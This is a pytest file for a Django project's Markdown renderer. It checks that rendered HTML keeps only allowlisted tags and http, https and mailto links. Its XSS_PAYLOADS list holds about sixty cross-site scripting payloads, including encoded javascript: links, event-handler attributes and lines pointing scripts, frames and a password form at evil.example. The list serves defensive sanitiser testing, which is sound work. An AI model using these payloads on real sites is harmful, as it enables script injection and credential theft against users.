"""Resources' Markdown: what a writer expects renders, and nothing a script could run survives.

Every output is parsed as HTML and checked against the allowlist: only known tags, only known attributes,
links only to http, https and mailto addresses. So a payload that slips through in any form fails, not just
the forms the test happens to spell out.
"""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.template import Context, Template

from samskap.knowledge.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](%6a%61%76%61%73%63%72%69%70%74:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x](\"javascript:alert(1)\")",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://example.org/a.png)',
    "![x](https://example.org/a.png \"title\" onerror=alert(1))",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://example.org\" onclick=\"alert(1)\">x</a>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</div>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<table><tr><td onmouseover=alert(1)>x</td></tr></table>",
    "> <script>alert(1)</script>\n> > [x](javascript:alert(1))",
    "> \"><img src=x onerror=alert(1)>",
    "'\"><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[x](https://example.org\" onmouseover=\"alert(1))",
    "[x](https://example.org 'title\" onmouseover=\"alert(1)')",
    "~~<script>alert(1)</script>~~",
    "# <img src=x onerror=alert(1)>",
    "<base href=\"https://evil.example/\">",
    "[x](//evil.example/path)",
    "[x](/relative/path)",
]


class Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def tags_of(html: str) -> list[tuple[str, dict]]:
    parser = Tags()
    parser.feed(html)
    parser.close()
    return parser.tags


def assert_safe(html: str) -> None:
    for tag, attributes in tags_of(html):
        assert tag in ALLOWED_TAGS, f"<{tag}> survived in {html!r}"
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()) | (
            {"scope"} if tag == "th" else set())
        assert set(attributes) <= allowed, f"{attributes} on <{tag}> survived in {html!r}"
        if tag == "a" and "href" in attributes:
            scheme = urlsplit(attributes["href"].strip()).scheme.lower()
            assert scheme in {"http", "https", "mailto"}, f"a link to {attributes['href']!r} survived"
        if tag == "a":
            assert attributes.get("rel") == "nofollow noopener"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_script_survives_the_markdown(payload):
    html = str(render_markdown(payload))
    assert_safe(html)
    lowered = html.lower()
    assert "<script" not in lowered and "<iframe" not in lowered and "<svg" not in lowered
    addresses = [attrs["href"].lower() for _tag, attrs in tags_of(html) if attrs.get("href")]
    assert not any(word in href for href in addresses for word in ("javascript", "vbscript", "data:", "alert"))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_script_survives_the_template_filter(payload):
    html = Template("{% load knowledge %}{{ text|markdown }}").render(Context({"text": payload}))
    assert_safe(html)


def test_an_allowlist_checker_that_would_catch_a_script():
    """The checker itself fails on what the sanitiser must remove (so the tests above can fail)."""
    for unsafe in ('<script>alert(1)</script>', '<a href="javascript:alert(1)" rel="nofollow noopener">x</a>',
                   '<p onclick="x">x</p>', '<img src="x">'):
        with pytest.raises(AssertionError):
            assert_safe(unsafe)


def test_raw_html_is_shown_as_text_not_run():
    html = str(render_markdown("Use <b>bold</b> and <script>alert(1)</script> here"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<b>" not in html


def test_ordinary_markdown_renders_as_expected():
    html = str(render_markdown(
        "# Heading\n\nSome **bold**, *italic* and ~~old~~ text with `code`.\n\n"
        "- one\n- two\n\n3. three\n4. four\n\n> quoted\n\n"
        "[A link](https://example.org/a?b=1) and <https://example.org/auto> and [mail](mailto:hub@example.org)\n\n"
        "| Round | Minutes |\n|---|---|\n| 1 | 20 |\n\n```\nblock\n```\n\n---\n"))
    assert "<h2>Heading</h2>" in html
    assert "<strong>bold</strong>" in html and "<em>italic</em>" in html and "<s>old</s>" in html
    assert "<code>code</code>" in html
    assert "<ul>\n<li>one</li>" in html and '<ol start="3">' in html
    assert "<blockquote>" in html
    assert '<a href="https://example.org/a?b=1" rel="nofollow noopener">A link</a>' in html
    assert '<a href="https://example.org/auto" rel="nofollow noopener">https://example.org/auto</a>' in html
    assert '<a href="mailto:hub@example.org" rel="nofollow noopener">mail</a>' in html
    assert '<th scope="col">Round</th>' in html and "<td>20</td>" in html
    assert "<pre><code>block\n</code></pre>" in html and "<hr>" in html


def test_images_become_links_to_the_image_with_their_description():
    html = str(render_markdown("![A map of Malmö](https://example.org/map.png)"))
    assert "<img" not in html
    assert '<a href="https://example.org/map.png" rel="nofollow noopener">A map of Malmö</a>' in html


def test_relative_links_lose_their_address():
    html = str(render_markdown("[home](/events/)"))
    assert "href" not in html and "home" in html


def test_headings_start_below_the_page_heading_and_never_skip_a_level():
    html = str(render_markdown("### Three\n\n###### Six\n\n#### Four\n\n# One"))
    assert [tag for tag, _attrs in tags_of(html)] == ["h2", "h3", "h4", "h2"]
    assert [tag for tag, _attrs in tags_of(str(render_markdown("# A\n\n## B", heading_base=3)))] == ["h3", "h4"]
    assert "<h1" not in str(render_markdown("# Title"))


def test_empty_text_renders_nothing():
    assert render_markdown("") == "" and render_markdown(None) == "" and render_markdown("  \n") == ""
